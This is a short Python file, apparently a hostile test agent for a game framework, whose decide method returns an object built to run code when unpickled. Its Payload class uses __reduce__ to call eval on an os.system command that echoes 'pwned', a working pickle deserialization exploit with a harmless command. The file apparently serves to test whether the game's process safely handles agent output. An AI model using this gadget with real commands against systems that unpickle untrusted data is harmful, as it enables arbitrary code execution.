"""Returns an object whose unpickling would run eval in the game's process."""

from game.rules.model import Orders


class Payload:
    def __reduce__(self):
        return (eval, ("__import__('os').system('echo pwned')",))


class UnpickleEval:
    def decide(self, observation, rng):
        return Payload()
